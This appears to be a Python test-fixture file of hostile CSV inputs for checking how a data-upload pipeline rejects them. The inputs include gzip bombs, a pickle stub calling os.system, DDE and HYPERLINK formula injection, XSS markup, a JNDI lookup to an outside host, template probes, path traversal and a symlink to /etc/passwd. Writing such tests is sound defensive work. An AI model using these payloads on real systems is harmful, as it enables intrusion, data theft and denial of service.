"""Tables as CSV, plain and packed: bombs, encodings, formulas, and cells that want to be markup."""

import gzip
from collections.abc import Callable
from functools import partial
from pathlib import Path
from typing import Any

from tests.hostile.case import Case, content

_ROWS = "1,2,x\n3,4,y\n" * 6
_HEAD = "a,b,label\n"


def _case(name: str, data: Callable[[], bytes | str] | bytes | str, says: str | None, **options: Any) -> Case:
    return Case(name, content(data), says, role="data", **options)


def _packed(part: bytes, times: int) -> bytes:
    """Gzip members one behind the other unpack to one long text: gigabytes from kilobytes, made in an instant."""
    return gzip.compress(part, 9) * times


def _wide() -> str:
    return ",".join(f"c{i}" for i in range(200_000)) + ",label\n"


def _cells(cell: str) -> str:
    return "a,b,label\n" + "".join(f"{i},{cell},{'xy'[i % 2]}\n" for i in range(12))


def _labels(first: str, second: str) -> str:
    return _HEAD + "".join(f"{i},{i},{first if i % 2 else second}\n" for i in range(12))


def _write(write: Callable[[Path, Path], None], name: str, says: str | None) -> Case:
    return Case(name, write, says, role="data")


def _link(path: Path, canary: Path) -> None:
    path.symlink_to("/etc/passwd")


CASES = (
    _case("bomb.csv.gz", partial(_packed, b"a" * (16 << 20), 132), "times its size", modes={"team": "at most 512 MB"}, bomb=True),
    _case("rows_bomb.csv.gz", partial(lambda: gzip.compress(_HEAD.encode(), 9) + _packed(b"1,2,x\n" * 1_000_000, 12)), "times its size", bomb=True),
    _case("packed_twice.csv.gz", gzip.compress(gzip.compress((_HEAD + _ROWS).encode())), "Expected"),
    _case("cut.csv.gz", gzip.compress((_HEAD + _ROWS).encode())[:-9], "whole gzip file"),
    _case("wrong_checksum.csv.gz", gzip.compress((_HEAD + _ROWS).encode())[:-8] + bytes(8), "whole gzip file"),
    _case("no_gzip.csv.gz", _HEAD + _ROWS, "whole gzip file"),
    _case("gzip_without_its_name.csv", gzip.compress((_HEAD + _ROWS).encode()), "Expected"),
    _case("wide.csv", _wide, "columns"),
    _case("one_line.csv", lambda: b"a" * 4_000_000, "Expected"),
    _case("one_cell.csv", lambda: _HEAD.encode() + b"1," + b"2" * 4_000_000 + b",x\n" + _ROWS.encode(), "Expected"),
    _case("many_rows.csv", lambda: _HEAD.encode() + b"1,2,x\n" * 300_000, "data points"),
    _case("only_commas.csv", lambda: b"," * 1_000_000, "columns"),
    _case("only_quotes.csv", lambda: b'"' * 1_000_000, "Expected"),
    _case("only_lines.csv", lambda: b"\n" * 1_000_000, "Expected"),
    _case("open_quote.csv", _HEAD + '1,"2,x\n' + _ROWS, "Expected"),
    _case("zero_bytes.csv", _HEAD.encode() + b"1,\0,x\n", "UTF-16"),
    _case("utf16.csv", (_HEAD + _ROWS).encode("utf-16"), "UTF-16"),
    _case("utf32.csv", (_HEAD + _ROWS).encode("utf-32"), "UTF-16"),
    _case("latin1.csv", "größe,b,label\n1,2,x\n".encode("latin-1"), "UTF-8"),
    _case("overlong.csv", b"a\xc0\xaf,b,label\n1,2,x\n", "UTF-8"),
    _case("surrogates.csv", b"a,b,label\n" + b"1,2,\xed\xa0\x80\n" * 6, "UTF-8"),
    _case("utf7.csv", "a,b,label\n" + "1,2,+ADw-script+AD4-\n3,4,y\n" * 6, None),
    _case("picture.csv", b"\x89PNG\r\n\x1a\n" + bytes(100), "Expected"),
    _case("archive.csv", b"PK\x03\x04" + bytes(100), "Expected"),
    _case("page.csv", "<html><script>window.PWN=1</script></html>", "Expected"),
    _case("pickle.csv", b"\x80\x04\x95\x10cos\nsystem\n.", "Expected"),
    _case("no_rows.csv", _HEAD, "data point"),
    _case("no_header.csv", "1,2,3\n4,5,6\n", "column names"),
    _case("names_twice.csv", "a,a,label\n" + _ROWS, "several times"),
    _case("nameless.csv", "a,,label\n" + _ROWS, "name for every column"),
    _case("ragged_long.csv", _HEAD + "1,2,x,4,5\n", "cells"),
    _case("ragged_short.csv", _HEAD + "1\n" + _ROWS, "Expected"),
    _case("one_class.csv", _HEAD + "1,2,x\n" * 6, "two classes"),
    _case("one_point_a_class.csv", _HEAD + "1,2,x\n3,4,y\n", "of each class"),
    _case("regression.csv", _labels("0.5", "1.25"), "fraction"),
    _case("infinite.csv", _cells("inf"), "Expected"),
    _case("1e999.csv", _cells("1e999"), "Expected"),
    _case("nan_label.csv", _labels("", "y"), "Expected"),
    _case("missing.csv", _cells(""), "Expected"),
    _case("number_of_5000_digits.csv", _cells("9" * 5000), None),
    _case("categories.csv", lambda: "a,b,label\n" + "".join(f"{i},text {i},{'xy'[i % 2]}\n" for i in range(4000)), "Expected"),
    _case("many_classes.csv", lambda: "a,b,label\n" + "".join(f"{i},{i},class {i // 2}\n" for i in range(4000)), "classes"),
    _case("formula.csv", _cells("=HYPERLINK(\"\"http://outside.example\"\")").replace("=HYP", '"=HYP').replace('"")', '"")"'), None),
    _case("formula_labels.csv", _labels("=1+1", "@SUM(A1)"), None),
    _case("formula_columns.csv", "=1+1,+cmd|' /C calc'!A0,label\n" + _ROWS, None),
    _case("markup_labels.csv", _labels("<img src=x onerror=window.PWN=1>", "![p](http://outside.example/p.png)"), None),
    _case("markup_columns.csv", "<script>window.PWN=1</script>,[a](javascript:alert(1)),label\n" + _ROWS, None),
    _case("template_labels.csv", _labels("{{7*7}}", "%{x}<br>${jndi:ldap://outside.example}"), None),
    _case("bidi_labels.csv", _labels("\u202eabc", "\u2066def\u200b"), None),
    _case("control_labels.csv", _labels("\x1b[31mred", "\x07bell"), None),
    _case("long_label.csv", _labels("x" * 100_000, "y"), "class names"),
    _case("long_name.csv", "a" * 200_000 + ",b,label\n" + _ROWS, "Expected"),
    _case("own_columns.csv", "split,row,label\ntrain,1,x\ntrain,2,y\ntest,3,x\ntest,4,y\ntrain,5,x\ntrain,6,y\n", None),
    _case("split_evil.csv", "a,split,label\n1,../../etc,x\n2,train,y\n", "train or test"),
    _case("carriage_returns.csv", (_HEAD + _ROWS).replace("\n", "\r"), None),
    _write(_link, "link.csv", "link"),
    _write(lambda path, canary: path.mkdir(), "folder.csv", "folder"),
)  # fmt: skip
